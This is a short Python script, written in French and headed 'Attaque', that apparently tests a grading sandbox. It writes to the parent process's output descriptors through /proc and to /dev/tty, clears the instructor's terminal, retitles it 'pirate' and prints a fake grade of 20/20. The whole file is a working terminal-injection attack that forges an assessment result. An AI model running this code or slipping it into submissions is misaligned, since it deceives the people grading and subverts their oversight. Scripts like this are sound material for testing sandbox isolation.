"""Attaque : écrit dans le terminal de l'enseignant (efface l'écran, fausse note) par /proc et /dev."""

import os

FAUX = b"\x1b[2J\x1b]0;pirate\x07\nNote : 20 / 20 (FAUSSE NOTE)\n"
for chemin in [f"/proc/{os.getppid()}/fd/1", f"/proc/{os.getppid()}/fd/2", "/dev/tty"]:
    try:
        with open(chemin, "wb", buffering=0) as terminal:
            terminal.write(FAUX)
        print("écrit :", chemin, flush=True)
    except OSError as erreur:
        print("refusé :", chemin, erreur.strerror, flush=True)
print("attaque terminée", flush=True)
